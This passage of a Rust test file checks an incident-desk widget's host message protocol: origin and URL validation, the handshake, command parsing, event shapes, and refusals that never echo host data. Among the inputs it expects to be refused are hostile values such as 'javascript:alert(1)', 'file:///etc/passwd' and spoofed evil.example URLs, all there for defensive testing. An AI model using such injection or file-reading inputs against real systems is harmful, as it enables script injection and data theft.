//! The host message protocol (F17, F21; issue 5, "Three ways to embed, one build"): origins and
//! the allow-list, the handshake, every command from a realistic example, every event in its
//! documented shape, and every way a message is refused (wrong protocol, version, session or
//! instance, replayed or reordered sequence numbers, commands before the welcome, oversized
//! messages, CSS injection in a theme, insecure endpoints), each answered by an `error` event that
//! repeats nothing the host sent. Then property tests: any text and any JSON is either a command
//! or a refusal, a refusal changes nothing, and a stream with replays and reorderings accepts each
//! sequence number at most once, in increasing order.

use incident_engine::call::entry::LogEntry;
use incident_engine::call::Call;
use incident_engine::delivery::outbox::{Failure, IdempotencyKey, OutboxStatus};
use incident_engine::kernel::Role;
use incident_engine::pack::UnitStatus;
use incident_engine::protocol::{
    protocol_schema_json, read_bare_command, AllowList, BearerToken, Endpoint, FieldProblem,
    Handshake, HostCommand, HostEvent, HostSession, Inbound, InstanceId, MessageId, Origin,
    OriginError, Outbound, PackSites, PackUrl, RejectReason, Rejection, SessionId, StorageKey,
    Theme, UrlProblem, MAX_MESSAGE_BYTES, MAX_SEQ,
};
use incident_engine::PackLoadError;
use proptest::prelude::*;
use serde_json::{json, Value};

mod support;
use support::council;

/// Personal data a hostile or careless host might put in a message: it must never come back.
const SECRET: &str = "Jane Secretperson 07700 900461";

fn instance() -> InstanceId {
    InstanceId::parse("desk-1").unwrap()
}

/// A session that has said hello but not been welcomed, and the hello's id.
fn greeted() -> (HostSession, MessageId) {
    let mut session = HostSession::new(instance(), 42);
    let hello = session.hello("1.4.0");
    (session, hello.id)
}

/// A message from the host to `session`, as JSON text.
fn message(
    session: &HostSession,
    seq: u64,
    kind: &str,
    payload: Value,
    correlation: Option<&str>,
) -> String {
    message_value(session, seq, kind, payload, correlation).to_string()
}

/// [`message`] as a JSON value, to be spoilt before it is sent.
fn message_value(
    session: &HostSession,
    seq: u64,
    kind: &str,
    payload: Value,
    correlation: Option<&str>,
) -> Value {
    json!({
        "protocol": "incident-desk",
        "version": 1,
        "id": format!("host-{seq}"),
        "correlation": correlation,
        "session": session.session().as_str(),
        "instance": session.instance().as_str(),
        "seq": seq,
        "type": kind,
        "payload": payload,
    })
}

/// A welcomed session; the host's next `seq` is 2.
fn open() -> HostSession {
    let (mut session, hello) = greeted();
    let welcome = message(&session, 1, "welcome", json!({}), Some(hello.as_str()));
    let accepted = session.accept(&welcome).unwrap();
    assert_eq!(accepted.body, HostCommand::Welcome(Default::default()));
    session
}

/// The idempotency key the examples acknowledge.
const KEY: &str = "0b9e2c7a-4d1f-4c3e-9a8b-1f2e3d4c5b6a";

/// The realistic example of each command, as the demo CRM sends them.
fn examples() -> Vec<(&'static str, Value)> {
    vec![
        (
            "configure",
            json!({
                "agent_id": "agent-0042",
                "role": "handler",
                "locale": "en-GB",
                "theme": {
                    "--idk-accent": "#0b5fff",
                    "--idk-font": "\"Inter\", system-ui, sans-serif",
                    "--idk-radius": "calc((0.25rem + 2px) * 1)",
                    "--idk-surface": "oklch(98% 0.01 250)",
                    "--idk-focus-ring": "color-mix(in srgb, var(--idk-accent) 60%, white)"
                },
                "z_index": 2147483000,
                "endpoint": "https://crm.example/api/incident-log"
            }),
        ),
        (
            "context.set",
            json!({
                "call_id": "INT-2027-000123",
                "contact_ref": "contact/88231",
                "caller_number": "+44 20 7946 0321"
            }),
        ),
        (
            "pack.load",
            json!({ "url": "packs/council-out-of-hours.json" }),
        ),
        (
            "resources.update",
            json!({ "units": [
                { "id": "hw-01", "status": "committed" },
                { "id": "hw-02", "status": "available" },
                { "id": "ooh-duty", "status": "on_call" }
            ]}),
        ),
        (
            "notices.set",
            json!({ "notices": [
                { "id": "BWN-2027-04", "kind": "boil-water", "title": "Boil water notice: Alderbury",
                  "areas": ["AL2", "Alderbury"], "text": "Boil and cool all water for drinking." },
                { "id": "RC-17", "kind": "road-closed", "title": "Mill Lane closed", "areas": ["Mill Lane"] }
            ]}),
        ),
        ("entry.ack", json!({ "key": KEY })),
        (
            "entry.nack",
            json!({ "key": KEY, "reason": "CRM validation: case number missing", "permanent": true }),
        ),
        (
            "incident.open",
            json!({
                "reference": "CRM-INC-2027-0042", "code": "HW-FLD-01", "priority": "P2",
                "location": "B1234 at Mill Lane", "summary": "Road flooded across both lanes",
                "zone": "north", "vulnerable": true, "safety": ["Cars trying to drive through"],
                "call": { "reference": "INT-2027-000123", "handler": "agent-0042" }
            }),
        ),
        (
            "incident.report",
            json!({ "reference": "CRM-INC-2027-0042", "unit": "hw-1", "report": "acknowledged", "eta_minutes": 25 }),
        ),
        ("incident.ack", json!({ "key": "CRM-INC-2027-0042#3" })),
        (
            "review.add",
            json!({ "items": [
                { "call": "INT-2027-000123", "handler": "agent-0042", "code": "HW-FLD-01",
                  "closed_at": 1796637600000u64, "deviation": "overridden",
                  "what": "The tree's code was overridden", "reason": "Caller described a different hazard" }
            ]}),
        ),
        (
            "history.set",
            json!({ "calls": [
                { "at": 1796637600000u64, "callback": "07700 900123", "location": "12 Mill Lane" },
                { "at": 1796641200000u64, "callback": "", "location": "" }
            ]}),
        ),
        ("teardown", json!({})),
    ]
}

fn as_json(message: &Outbound) -> Value {
    serde_json::from_str(&message.to_json()).unwrap()
}

// ---------------------------------------------------------------------------------------------
// Origins
// ---------------------------------------------------------------------------------------------

#[test]
fn origins_are_read_exactly_and_normalised_as_browsers_report_them() {
    let accepted = [
        ("https://crm.example", "https://crm.example"),
        ("HTTPS://CRM.Example", "https://crm.example"),
        ("https://crm.example:443", "https://crm.example"),
        ("https://crm.example:0443", "https://crm.example"),
        ("http://crm.example:80", "http://crm.example"),
        ("http://crm.example:443", "http://crm.example:443"),
        ("https://crm.example:8443", "https://crm.example:8443"),
        ("http://localhost:8080", "http://localhost:8080"),
        ("http://127.0.0.1:3000", "http://127.0.0.1:3000"),
        ("http://[::1]:8080", "http://[::1]:8080"),
        ("http://[0:0:0:0:0:0:0:1]", "http://[::1]"),
        ("https://[2001:DB8::1]:443", "https://[2001:db8::1]"),
        (
            "https://xn--bcher-kva.example",
            "https://xn--bcher-kva.example",
        ),
        (
            "https://intranet_01.corp.example",
            "https://intranet_01.corp.example",
        ),
    ];
    for (input, expected) in accepted {
        let origin = Origin::parse(input).unwrap_or_else(|e| panic!("{input}: {e}"));
        assert_eq!(origin.to_string(), expected, "{input}");
    }
}

#[test]
fn default_ports_compare_equal_and_others_do_not() {
    let https = Origin::parse("https://crm.example").unwrap();
    assert_eq!(Origin::parse("https://crm.example:443").unwrap(), https);
    assert_eq!(https.port(), 443);
    assert_ne!(Origin::parse("https://crm.example:8443").unwrap(), https);
    assert_ne!(Origin::parse("http://crm.example").unwrap(), https);
    let http = Origin::parse("http://crm.example:80").unwrap();
    assert_eq!(http, Origin::parse("http://crm.example").unwrap());
    assert_eq!(http.port(), 80);
    assert_ne!(Origin::parse("http://crm.example:443").unwrap(), http);
}

#[test]
fn origins_that_are_not_exact_are_refused_with_the_reason() {
    use OriginError::*;
    let refused = [
        ("", Empty),
        ("*", Wildcard),
        ("https://*.crm.example", Wildcard),
        ("null", Null),
        ("NULL", Null),
        ("crm.example", NoScheme),
        ("https:/crm.example", NoScheme),
        ("ftp://crm.example", UnsupportedScheme),
        ("javascript://crm.example", UnsupportedScheme),
        ("https://crm.example/", TrailingSlash),
        ("https://crm.example/app", Path),
        ("https://crm.example?tenant=1", Query),
        ("https://crm.example#top", Fragment),
        ("https://user:pw@crm.example", UserInfo),
        ("https://crm.example@evil.example", UserInfo),
        ("https://", EmptyHost),
        ("https://:443", EmptyHost),
        ("https://crm..example", BadHost),
        ("https://crm.example.", BadHost),
        ("https://crm$.example", BadHost),
        ("https://crm example", Whitespace),
        (" https://crm.example", Whitespace),
        ("https://crm.example\n", Whitespace),
        ("https://bücher.example", NotAscii),
        ("http://127.1", BadIpv4),
        ("http://0x7f.0.0.1", BadIpv4),
        ("http://010.0.0.1", BadIpv4),
        ("http://::1", UnbracketedIpv6),
        ("http://[::1", BadIpv6),
        ("http://[zz::1]", BadIpv6),
        ("http://[::1]x", BadHost),
        ("https://crm.example:0", BadPort),
        ("https://crm.example:65536", BadPort),
        ("https://crm.example:", BadPort),
        ("https://crm.example:+443", BadPort),
        ("https://crm.example:44a", BadPort),
    ];
    for (input, expected) in refused {
        assert_eq!(Origin::parse(input), Err(expected), "{input:?}");
    }
    assert_eq!(
        Origin::parse(&format!("https://{}.example", "a".repeat(400))),
        Err(TooLong)
    );
}

/// The allow list of `entries`, which must be refused: each bad entry's index and problem, and
/// the refusal's text.
fn bad_entries(entries: &[&str]) -> (Vec<(usize, OriginError)>, String) {
    let error = AllowList::parse(entries).unwrap_err();
    let found = error
        .problems
        .iter()
        .map(|p| (p.index, p.error.clone()))
        .collect();
    (found, error.to_string())
}

#[test]
fn the_allow_list_reports_every_bad_entry_with_its_index() {
    let (found, text) = bad_entries(&[
        "https://crm.example",
        "*",
        "https://eu.crm.example",
        "https://crm.example/",
        "null",
    ]);
    assert_eq!(
        found,
        vec![
            (1, OriginError::Wildcard),
            (3, OriginError::TrailingSlash),
            (4, OriginError::Null)
        ]
    );
    assert!(
        text.contains("entry [1]: wildcards are not allowed"),
        "{text}"
    );
    assert!(text.contains("entry [3]: an origin has no path"), "{text}");
}

#[test]
fn the_allow_list_takes_plain_http_only_for_this_machine() {
    let (found, text) = bad_entries(&[
        "https://crm.example.org",
        "http://crm.example.org",
        "http://10.0.0.5:8080",
        "http://127.0.0.1:4173",
        "http://127.8.9.10",
        "http://localhost:3000",
        "http://desk.localhost",
        "http://[::1]:8080",
    ]);
    assert_eq!(
        found,
        vec![(1, OriginError::Insecure), (2, OriginError::Insecure)]
    );
    assert!(
        text.contains("entry [1]: a host origin must use https"),
        "{text}"
    );
    let loopback = AllowList::parse(&[
        "http://127.0.0.1:4173",
        "http://127.8.9.10",
        "http://localhost:3000",
        "http://[::1]:8080",
    ])
    .unwrap();
    assert_eq!(loopback.origins().len(), 4);
}

#[test]
fn the_allow_list_matches_event_origins_exactly() {
    let list = AllowList::parse(&[
        "https://crm.example:443",
        "http://localhost:8080",
        "https://crm.example",
    ])
    .unwrap();
    assert_eq!(list.origins().len(), 2, "repeats are kept once");
    for allowed in [
        "https://crm.example",
        "https://crm.example:443",
        "http://localhost:8080",
    ] {
        assert!(list.allows_str(allowed), "{allowed}");
    }
    for refused in [
        "http://crm.example",
        "https://eu.crm.example",
        "https://crm.example.evil.example",
        "https://crm.example:8443",
        "http://localhost",
        "http://localhost:8081",
        "null",
        "",
        "*",
    ] {
        assert!(!list.allows_str(refused), "{refused}");
    }
    assert!(list.allows(&Origin::parse("HTTPS://CRM.EXAMPLE").unwrap()));
    assert!(AllowList::parse::<&str>(&[]).unwrap().is_empty());
    assert!(!AllowList::default().allows_str("https://crm.example"));
}

// ---------------------------------------------------------------------------------------------
// Addresses
// ---------------------------------------------------------------------------------------------

#[test]
fn pack_addresses_are_relative_or_absolute_http_and_only_same_origin_is_allowed() {
    let widget = Origin::parse("https://widget.example").unwrap();
    for relative in [
        "packs/council.json",
        "/packs/council.json",
        "../packs/council.json?v=2",
        "council.json#x",
    ] {
        let url = PackUrl::parse(relative).unwrap();
        assert_eq!(url, PackUrl::Relative(relative.to_owned()));
        assert!(url.is_allowed_for(&widget));
    }
    let same = PackUrl::parse("HTTPS://Widget.Example:443/packs/council.json").unwrap();
    assert_eq!(same.as_str(), "https://widget.example/packs/council.json");
    assert!(same.is_allowed_for(&widget));
    let other = PackUrl::parse("https://cdn.example/packs/council.json").unwrap();
    assert!(!other.is_allowed_for(&widget));
    let refused = [
        ("", UrlProblem::Empty),
        ("//evil.example/pack.json", UrlProblem::ProtocolRelative),
        ("/\\evil.example/pack.json", UrlProblem::Backslash),
        ("javascript:alert(1)", UrlProblem::SchemeNotAllowed),
        ("data:application/json,{}", UrlProblem::SchemeNotAllowed),
        ("file:///etc/passwd", UrlProblem::SchemeNotAllowed),
        ("https:evil.example/pack.json", UrlProblem::Malformed),
        ("packs/a b.json", UrlProblem::Whitespace),
        (
            "https://user@widget.example/pack.json",
            UrlProblem::Origin(OriginError::UserInfo),
        ),
    ];
    for (input, expected) in refused {
        assert_eq!(PackUrl::parse(input), Err(expected), "{input:?}");
    }
}

#[test]
fn pack_load_may_name_only_sites_the_widget_or_its_host_page_already_stands_on() {
    let origin = |text: &str| Origin::parse(text).unwrap();
    let url = |text: &str| PackUrl::parse(text).unwrap();
    // The widget's own page (standalone, or in a host's iframe): its own site, as its policy's
    // connect-src 'self' says.
    let own = PackSites::OwnPage {
        widget: origin("https://desk.example.org"),
    };
    assert!(own.allows(&url("packs/housing-repairs.json")));
    assert!(own.allows(&url("https://desk.example.org/packs/housing-repairs.json")));
    assert!(!own.allows(&url("https://crm.example.org/procedures/council.json")));
    // Mounted by element.js (served from the widget's site) in the CRM's page, with the pack the
    // host named on a site of its own.
    let in_page = PackSites::HostPage {
        page: origin("https://crm.example.org"),
        widget: Some(origin("https://desk.example.org")),
        mounted: Some(origin("https://packs.example.org")),
    };
    for allowed in [
        "procedures/council.json",
        "/procedures/council.json",
        "https://crm.example.org/procedures/council.json",
        "https://desk.example.org/packs/housing-repairs.json",
        "HTTPS://Desk.Example.Org:443/packs/council-out-of-hours.json",
        "https://packs.example.org/housing.json",
    ] {
        assert!(in_page.allows(&url(allowed)), "{allowed}");
    }
    for refused in [
        "https://cdn.example/packs/council.json",
        "http://desk.example.org/packs/council.json",
        "https://desk.example.org:8443/packs/council.json",
        "https://evil.desk.example.org/packs/council.json",
    ] {
        assert!(!in_page.allows(&url(refused)), "{refused}");
    }
    // Nothing known but the page (a widget mounted by hand, a pack from a blob: address).
    let page_only = PackSites::HostPage {
        page: origin("https://crm.example.org"),
        widget: None,
        mounted: None,
    };
    assert!(page_only.allows(&url("/procedures/council.json")));
    assert!(!page_only.allows(&url("https://desk.example.org/packs/council.json")));
    // A page of an opaque origin: relative addresses only.
    assert!(PackSites::RelativeOnly.allows(&url("packs/council.json")));
    assert!(!PackSites::RelativeOnly.allows(&url("https://desk.example.org/packs/council.json")));
    // The refusal says which sites may be named, never the address the host sent.
    let said = |sites: &PackSites| match HostEvent::pack_refused(sites) {
        HostEvent::PackError(error) => error.message,
        other => panic!("not pack.error: {other:?}"),
    };
    assert!(
        said(&own).contains("from its own site only"),
        "{}",
        said(&own)
    );
    assert!(
        said(&page_only).contains("from this page's own site"),
        "{}",
        said(&page_only)
    );
    let in_page_said = said(&in_page);
    for site in [
        "this page's own site",
        "the widget's own site",
        "element.js",
        "the pack it was mounted with",
    ] {
        assert!(in_page_said.contains(site), "{site} in {in_page_said}");
    }
    for sent in ["cdn.example", "packs.example.org", "crm.example.org"] {
        assert!(!in_page_said.contains(sent), "{sent} in {in_page_said}");
    }
}

#[test]
fn endpoints_are_https_or_loopback_http() {
    for (input, normalised) in [
        (
            "https://crm.example/api/incident-log",
            "https://crm.example/api/incident-log",
        ),
        ("HTTPS://CRM.example:443", "https://crm.example/"),
        (
            "https://crm.example/api?tenant=7",
            "https://crm.example/api?tenant=7",
        ),
        (
            "http://localhost:8080/entries",
            "http://localhost:8080/entries",
        ),
        ("http://127.0.0.1:9000/x", "http://127.0.0.1:9000/x"),
        ("http://[::1]/x", "http://[::1]/x"),
    ] {
        let endpoint = Endpoint::parse(input).unwrap_or_else(|e| panic!("{input}: {e}"));
        assert_eq!(endpoint.as_str(), normalised);
    }
    for (input, expected) in [
        ("http://crm.example/api", UrlProblem::Insecure),
        ("http://10.0.0.5/api", UrlProblem::Insecure),
        ("/api/incident-log", UrlProblem::NotAbsolute),
        ("ftp://crm.example/api", UrlProblem::SchemeNotAllowed),
        ("https://crm.example/api#x", UrlProblem::Fragment),
        (
            "https://user:pw@crm.example/api",
            UrlProblem::Origin(OriginError::UserInfo),
        ),
    ] {
        assert_eq!(Endpoint::parse(input), Err(expected), "{input}");
    }
}

// ---------------------------------------------------------------------------------------------
// The handshake and the commands
// ---------------------------------------------------------------------------------------------

#[test]
fn hello_then_welcome_opens_the_session() {
    let mut session = HostSession::new(instance(), 7);
    assert_eq!(session.handshake(), Handshake::NotStarted);
    let hello = session.hello("1.4.0");
    assert_eq!(session.handshake(), Handshake::AwaitingWelcome);
    assert_eq!(
        as_json(&hello),
        json!({
            "protocol": "incident-desk",
            "version": 1,
            "id": hello.id.as_str(),
            "correlation": null,
            "session": session.session().as_str(),
            "instance": "desk-1",
            "seq": 1,
            "type": "hello",
            "payload": {
                "widget_version": "1.4.0",
                "commands": ["welcome", "configure", "context.set", "pack.load",
                             "resources.update", "notices.set", "entry.ack", "entry.nack",
                             "incident.open", "incident.report", "incident.ack", "review.add",
                             "history.set",
                             "teardown"]
            }
        })
    );
    // Session and message ids are UUIDs, fresh for each seed.
    assert!(IdempotencyKey::parse(session.session().as_str()).is_ok());
    assert_ne!(HostSession::new(instance(), 8).session(), session.session());
    let welcome = message(&session, 1, "welcome", json!({}), Some(hello.id.as_str()));
    let accepted = session.accept(&welcome).unwrap();
    assert_eq!(accepted.correlation.as_ref(), Some(&hello.id));
    assert_eq!(session.handshake(), Handshake::Open);
    assert_eq!(session.last_accepted_seq(), 1);
}

#[test]
fn a_welcome_may_answer_an_earlier_hello_of_the_same_session() {
    let mut session = HostSession::new(instance(), 7);
    let first = session.hello("1.4.0");
    let second = session.hello("1.4.0");
    assert!(second.seq > first.seq);
    let welcome = message(&session, 1, "welcome", json!({}), Some(first.id.as_str()));
    session.accept(&welcome).unwrap();
    assert_eq!(session.handshake(), Handshake::Open);
}

#[test]
fn every_command_is_read_from_a_realistic_example() {
    let mut session = open();
    for (seq, (kind, payload)) in (2..).zip(examples()) {
        let text = message(&session, seq, kind, payload, None);
        let inbound = session
            .accept(&text)
            .unwrap_or_else(|e| panic!("{kind}: {e}"));
        assert_eq!(inbound.body.type_name(), kind);
        assert_eq!(inbound.seq, seq);
        assert_eq!(inbound.id.as_str(), format!("host-{seq}"));
        let expected_key = IdempotencyKey::parse(KEY).unwrap();
        match inbound.body {
            HostCommand::Configure(c) => {
                assert_eq!(c.agent_id, "agent-0042");
                assert_eq!(c.role, Role::Handler);
                assert_eq!(c.locale.unwrap().as_str(), "en-GB");
                assert_eq!(
                    c.theme.properties().get("--idk-accent").map(String::as_str),
                    Some("#0b5fff")
                );
                assert_eq!(c.theme.properties().len(), 5);
                assert_eq!(c.z_index, Some(2_147_483_000));
                assert_eq!(
                    c.endpoint.unwrap().as_str(),
                    "https://crm.example/api/incident-log"
                );
            }
            HostCommand::ContextSet(c) => {
                assert_eq!(c.call_id.as_deref(), Some("INT-2027-000123"));
                assert_eq!(c.contact_ref.as_deref(), Some("contact/88231"));
                assert_eq!(c.caller_number.as_deref(), Some("+44 20 7946 0321"));
            }
            HostCommand::PackLoad(p) => {
                assert_eq!(
                    p.url,
                    PackUrl::Relative("packs/council-out-of-hours.json".into())
                );
            }
            HostCommand::ResourcesUpdate(r) => {
                let units: Vec<(&str, UnitStatus)> =
                    r.units.iter().map(|u| (u.id.as_str(), u.status)).collect();
                assert_eq!(
                    units,
                    vec![
                        ("hw-01", UnitStatus::Committed),
                        ("hw-02", UnitStatus::Available),
                        ("ooh-duty", UnitStatus::OnCall)
                    ]
                );
            }
            HostCommand::NoticesSet(n) => {
                let read: Vec<(&str, &str, usize, &str)> = n
                    .notices
                    .iter()
                    .map(|n| {
                        (
                            n.id.as_str(),
                            n.kind.as_str(),
                            n.areas.len(),
                            n.text.as_str(),
                        )
                    })
                    .collect();
                assert_eq!(
                    read,
                    vec![
                        (
                            "BWN-2027-04",
                            "boil-water",
                            2,
                            "Boil and cool all water for drinking."
                        ),
                        ("RC-17", "road-closed", 1, "")
                    ]
                );
            }
            HostCommand::EntryAck(a) => assert_eq!(a.key, expected_key),
            HostCommand::EntryNack(n) => {
                assert_eq!(n.key, expected_key);
                assert_eq!(
                    n.failure(),
                    Failure::HostNack {
                        permanent: true,
                        reason: "CRM validation: case number missing".into()
                    }
                );
                assert!(n.failure().is_permanent());
            }
            HostCommand::IncidentOpen(o) => {
                assert_eq!(o.reference, "CRM-INC-2027-0042");
                assert_eq!((o.code.as_str(), o.priority.as_str()), ("HW-FLD-01", "P2"));
                assert_eq!(o.zone.as_deref(), Some("north"));
                assert!(o.vulnerable);
                assert_eq!(o.safety, vec!["Cars trying to drive through".to_owned()]);
                assert!(o.notify.is_empty());
                assert_eq!(o.call.unwrap().handler, "agent-0042");
            }
            HostCommand::IncidentReport(r) => {
                assert_eq!(
                    (r.unit.as_str(), r.report.as_str()),
                    ("hw-1", "acknowledged")
                );
                assert_eq!((r.eta_minutes, r.note), (Some(25), None));
            }
            HostCommand::IncidentAck(a) => assert_eq!(a.key, "CRM-INC-2027-0042#3"),
            HostCommand::ReviewAdd(r) => {
                let items = r.items(&council());
                assert_eq!(items.len(), 1);
                assert_eq!(items[0].key, "INT-2027-000123#overridden");
                // Said in the pack's words for a key it knows.
                assert_eq!(items[0].what, "the tree's code was overridden");
                assert_eq!(items[0].reason, "Caller described a different hazard");
            }
            HostCommand::HistorySet(h) => {
                assert_eq!(h.calls.len(), 2);
                assert_eq!(h.calls[0].at, 1_796_637_600_000);
                assert_eq!(h.calls[0].callback, "07700 900123");
                assert_eq!(h.calls[1].location, "");
            }
            HostCommand::Teardown(_) => assert_eq!(session.handshake(), Handshake::Ended),
            HostCommand::Welcome(_) => unreachable!(),
        }
    }
}

#[test]
fn optional_fields_may_be_left_out_or_null_and_keys_are_read_in_either_case() {
    let mut session = open();
    let minimal = message(
        &session,
        2,
        "configure",
        json!({ "agent_id": "a1", "role": "supervisor", "locale": null, "endpoint": null }),
        None,
    );
    let HostCommand::Configure(c) = session.accept(&minimal).unwrap().body else {
        panic!("not configure");
    };
    assert_eq!(c.role, Role::Supervisor);
    assert!(c.theme.is_empty() && c.locale.is_none() && c.endpoint.is_none());
    assert_eq!(c.z_index, None);
    let empty = message(&session, 3, "context.set", json!({}), None);
    assert!(session.accept(&empty).is_ok());
    let upper = message(
        &session,
        4,
        "entry.ack",
        json!({ "key": KEY.to_uppercase() }),
        None,
    );
    let HostCommand::EntryAck(ack) = session.accept(&upper).unwrap().body else {
        panic!("not entry.ack");
    };
    assert_eq!(ack.key.as_str(), KEY);
}

#[test]
fn commands_round_trip_through_their_json() {
    let mut session = open();
    for (seq, (kind, payload)) in (2..).zip(examples()) {
        let first = session
            .accept(&message(&session, seq, kind, payload, None))
            .unwrap();
        let again = Inbound::parse(&first.to_json()).unwrap();
        assert_eq!(again, first, "{kind}");
    }
}

// ---------------------------------------------------------------------------------------------
// Events
// ---------------------------------------------------------------------------------------------

#[test]
fn an_event_serialises_to_exactly_the_documented_text() {
    let message = Outbound::new(
        MessageId::parse("w-9").unwrap(),
        None,
        SessionId::parse("s-1").unwrap(),
        instance(),
        3,
        HostEvent::resize(640),
    );
    assert_eq!(
        message.to_json(),
        r#"{"protocol":"incident-desk","version":1,"id":"w-9","correlation":null,"session":"s-1","instance":"desk-1","seq":3,"type":"resize","payload":{"height_px":640}}"#
    );
}

#[test]
fn entry_completed_carries_the_key_and_the_entry() {
    let pack = council();
    let call = Call::open(&pack, "agent-7", 1_800_000_000_000);
    let entry = LogEntry::of(&pack, &call);
    let key = IdempotencyKey::parse(KEY).unwrap();
    let mut session = open();
    let sent = session.send(HostEvent::entry_completed(&key, &entry));
    assert_eq!(
        as_json(&sent),
        json!({
            "protocol": "incident-desk",
            "version": 1,
            "id": sent.id.as_str(),
            "correlation": null,
            "session": session.session().as_str(),
            "instance": "desk-1",
            "seq": 2,
            "type": "entry.completed",
            "payload": {
                "key": KEY,
                "entry": serde_json::from_str::<Value>(&entry.to_json()).unwrap()
            }
        })
    );
    // From an outbox payload, the same event.
    assert_eq!(
        HostEvent::entry_completed_json(&key, &entry.to_json()).unwrap(),
        HostEvent::entry_completed(&key, &entry)
    );
    assert!(HostEvent::entry_completed_json(&key, "{not json").is_err());
}

#[test]
fn every_event_has_its_type_and_payload_fields() {
    let pack = council();
    let key = IdempotencyKey::parse(KEY).unwrap();
    let status = OutboxStatus {
        pending: 2,
        in_flight: 1,
        dead_letters: 0,
        delivered: 5,
        oldest_pending_age_ms: Some(1_500),
        overdue: 1,
    };
    let rejection = Rejection {
        reason: RejectReason::UnknownType,
        correlation: MessageId::parse("host-3"),
    };
    let cases = [
        (HostEvent::ready(), "ready", json!({})),
        (
            HostEvent::pack_loaded(&pack),
            "pack.loaded",
            json!({ "id": pack.file().organisation.id, "version": pack.file().version }),
        ),
        (
            HostEvent::pack_error(&PackLoadError::Empty),
            "pack.error",
            json!({ "message": "The procedure pack file is empty." }),
        ),
        (
            HostEvent::call_started("INT-2027-000123"),
            "call.started",
            json!({ "call_id": "INT-2027-000123" }),
        ),
        (
            HostEvent::call_resumed("call-7", Some("INT-2027-000123"), Some("contact/88231")),
            "call.resumed",
            json!({ "call_id": "call-7", "crm_call_id": "INT-2027-000123", "contact_ref": "contact/88231" }),
        ),
        (
            HostEvent::call_resumed("call-8", None, None),
            "call.resumed",
            json!({ "call_id": "call-8", "crm_call_id": null, "contact_ref": null }),
        ),
        (
            HostEvent::delivery_sign_in_needed("https://crm.example/api/incidents", "HTTP 401"),
            "delivery.sign_in_needed",
            json!({ "endpoint": "https://crm.example/api/incidents", "reason": "HTTP 401" }),
        ),
        (
            HostEvent::teardown_done(3),
            "teardown.done",
            json!({ "kept": 3 }),
        ),
        (
            HostEvent::escalation_required("duty-manager", "Vulnerable caller"),
            "escalation.required",
            json!({ "level": "duty-manager", "reason": "Vulnerable caller" }),
        ),
        (
            HostEvent::entry_delivered(&key),
            "entry.delivered",
            json!({ "key": KEY }),
        ),
        (
            HostEvent::outbox_status(status),
            "outbox.status",
            json!({ "pending": 2, "in_flight": 1, "dead_letters": 0, "delivered": 5, "oldest_pending_age_ms": 1500, "overdue": 1 }),
        ),
        (
            HostEvent::resize(480),
            "resize",
            json!({ "height_px": 480 }),
        ),
        (
            HostEvent::error(&rejection),
            "error",
            json!({ "code": "unknown_type", "message": rejection.to_string(), "problems": [] }),
        ),
    ];
    let mut session = open();
    let mut last_seq = 0;
    for (event, kind, payload) in cases {
        assert_eq!(event.type_name(), kind);
        let sent = as_json(&session.send(event));
        assert_eq!(sent["type"], kind);
        assert_eq!(sent["payload"], payload, "{kind}");
        let seq = sent["seq"].as_u64().unwrap();
        assert!(seq > last_seq, "the widget's own counter increases");
        last_seq = seq;
    }
}

#[test]
fn incident_commands_are_refused_at_the_path_of_each_mistake() {
    let cases = [
        (
            "incident.report",
            json!({ "reference": "I-1", "unit": "hw-1", "report": "update" }),
            vec!["$.note"],
        ),
        (
            "incident.report",
            json!({ "reference": "I-1", "unit": "hw-1", "report": "on_scene", "eta_minutes": 5, "note": "x" }),
            vec!["$.eta_minutes", "$.note"],
        ),
        (
            "incident.report",
            json!({ "reference": "I-1", "unit": "hw-1", "report": "arrived", "eta_minutes": 2000 }),
            vec!["$.report", "$.eta_minutes"],
        ),
        (
            "incident.open",
            json!({ "reference": "", "code": 7, "priority": "P2", "location": "x", "vulnerable": "yes", "safety": "fire", "call": { "reference": "c" } }),
            vec![
                "$.reference",
                "$.code",
                "$.vulnerable",
                "$.safety",
                "$.call.handler",
            ],
        ),
        (
            "history.set",
            json!({ "calls": [ { "at": -1, "callback": "0770\u{0007}", "location": "x" }, { "at": 1 } ] }),
            vec![
                "$.calls[0].at",
                "$.calls[0].callback",
                "$.calls[1].callback",
                "$.calls[1].location",
            ],
        ),
        ("incident.ack", json!({ "key": 12 }), vec!["$.key"]),
        (
            "review.add",
            json!({ "items": [ { "call": "c", "handler": "h", "closed_at": "x", "deviation": "", "what": "w" } ] }),
            vec![
                "$.items[0].deviation",
                "$.items[0].closed_at",
                "$.items[0].reason",
            ],
        ),
    ];
    for (kind, payload, paths) in cases {
        let rejection = read_bare_command(kind, &payload.to_string()).unwrap_err();
        assert_eq!(paths_of(&rejection), paths, "{kind} {payload}");
        // Never what it held.
        assert!(!rejection.to_string().contains("arrived"), "{rejection}");
    }
}

#[test]
fn a_reply_is_correlated_to_the_command_it_answers() {
    let mut session = open();
    let to = MessageId::parse("host-5").unwrap();
    let reply = session.reply(HostEvent::pack_error(&PackLoadError::Empty), &to);
    assert_eq!(reply.correlation, Some(to));
}

// ---------------------------------------------------------------------------------------------
// Refusals
// ---------------------------------------------------------------------------------------------

/// The JSON paths of a refusal's problems, in order.
fn paths_of(rejection: &Rejection) -> Vec<&str> {
    rejection
        .problems()
        .iter()
        .map(|p| p.path.as_str())
        .collect()
}

/// Offers `text` to `session`: it must be refused with `code`, change nothing, and produce an
/// `error` event, correlated when `correlated`, that repeats none of [`SECRET`].
fn refused(session: &mut HostSession, text: &str, code: &str, correlated: bool) -> Rejection {
    let before = session.clone();
    let rejection = session.accept(text).expect_err(code);
    assert_eq!(rejection.code(), code, "{rejection}");
    assert_eq!(*session, before, "a refused message changes nothing");
    let error = session.error_event(&rejection);
    let json = error.to_json();
    for part in SECRET.split(' ') {
        assert!(!json.contains(part), "the error repeats {part:?}: {json}");
        assert!(!rejection.title().contains(part));
    }
    let value: Value = serde_json::from_str(&json).unwrap();
    assert_eq!(value["type"], "error");
    assert_eq!(value["payload"]["code"], code);
    assert_eq!(value["payload"]["message"], rejection.to_string());
    assert_eq!(value["correlation"].is_string(), correlated, "{json}");
    rejection
}

#[test]
fn an_unknown_type_is_refused_and_not_acted_on() {
    let mut session = open();
    let text = message(&session, 2, "call.hijack", json!({ "note": SECRET }), None);
    let rejection = refused(&mut session, &text, "unknown_type", true);
    assert_eq!(rejection.correlation, MessageId::parse("host-2"));
    // An event type is not a command either.
    let text = message(&session, 2, "hello", json!({}), None);
    refused(&mut session, &text, "unknown_type", true);
}

/// A configure payload wrong in five fields, with `accent` as its theme's accent, and a field
